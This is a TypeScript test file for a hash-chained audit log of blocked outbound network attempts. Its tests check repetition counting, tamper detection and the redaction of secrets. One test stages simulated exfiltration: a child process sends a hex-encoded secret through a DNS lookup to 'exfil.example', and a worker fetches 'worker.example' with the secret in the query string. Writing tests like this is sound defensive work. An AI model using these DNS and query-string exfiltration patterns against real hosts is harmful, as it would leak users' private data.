import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { auditFileName, readAudit } from '#server/egress/audit.ts';
import { tempFolder } from '../support/temp-folder.ts';
import { runGuarded } from './guarded-process.ts';

function attemptsIn(folder: string, body: string) {
  return runGuarded(
    `import net from 'node:net'; import dns from 'node:dns'; import { once } from 'node:events';
     const { openEgressAudit } = await import(root + '/server/egress/audit.ts');
     const audit = openEgressAudit(${JSON.stringify(folder)});
     const knock = (host, port = 443) => once(net.connect(port, host), 'close').catch(() => undefined);
     ${body}
     audit.close();`,
  );
}

describe('the record of blocked attempts', () => {
  it('chains its lines, counts repetitions instead of writing them, and goes on after a restart', async () => {
    const folder = tempFolder();
    await attemptsIn(
      folder,
      `for (let i = 0; i < 5; i += 1) await knock('api.deepseek.com'); await knock('203.0.113.10', 80);`,
    );
    await attemptsIn(folder, `await knock('other.example');`);
    const { events, brokenAt } = readAudit(join(folder, auditFileName));
    expect(brokenAt).toBeNull();
    expect(events.map(({ ruleId, target, count }) => [ruleId, target.name ?? target.address, count])).toEqual(
      [
        ['deepseek-official:deepseek.com', 'api.deepseek.com', 1],
        ['default-deny', '203.0.113.10', 1],
        ['deepseek-official:deepseek.com', 'api.deepseek.com', 4],
        ['default-deny', 'other.example', 1],
      ],
    );
    expect(events[0]).toMatchObject({
      event: 'egress.blocked',
      layer: 'name',
      phase: 'serve',
      policyId: 'stillroom-default',
      prevHash: '0'.repeat(64),
    });
  });

  it('shows a line that was changed or removed', async () => {
    const folder = tempFolder();
    await attemptsIn(folder, `await knock('a.example'); await knock('b.example'); await knock('c.example');`);
    const path = join(folder, auditFileName);
    const text = readFileSync(path, 'utf8');
    writeFileSync(path, text.replace('b.example', 'x.example'));
    expect(readAudit(path).brokenAt).toBe(2);
    writeFileSync(path, text.split('\n').toSpliced(1, 1).join('\n'));
    expect(readAudit(path).brokenAt).toBe(2);
  });

  it('holds what children and workers tried, and not what they tried to send', async () => {
    const folder = tempFolder();
    const secret = Buffer.from('the secret prompt').toString('hex');
    const { printed } = await attemptsIn(
      folder,
      `import { fork } from 'node:child_process'; import { writeFileSync } from 'node:fs'; import { Worker } from 'node:worker_threads';
       writeFileSync(import.meta.dirname + '/child.cjs', "require('node:dns').lookup('${secret}.exfil.example', () => {})");
       await once(fork(import.meta.dirname + '/child.cjs'), 'exit');
       await once(new Worker("fetch('http://worker.example/?q=${secret}').catch(() => {})", { eval: true }), 'exit');
       print(audit.childAttempts());`,
    );
    expect(printed).toEqual([2]);
    const { events } = readAudit(join(folder, auditFileName));
    expect(events.map(({ target, process: source }) => [target.name, source.role]).sort()).toEqual([
      ['[34 characters].exfil.example', 'child'],
      ['worker.example', 'child'],
    ]);
    expect(readFileSync(join(folder, auditFileName), 'utf8')).not.toContain(secret);
    expect(readdirSync(folder)).toEqual([auditFileName]);
  });
});
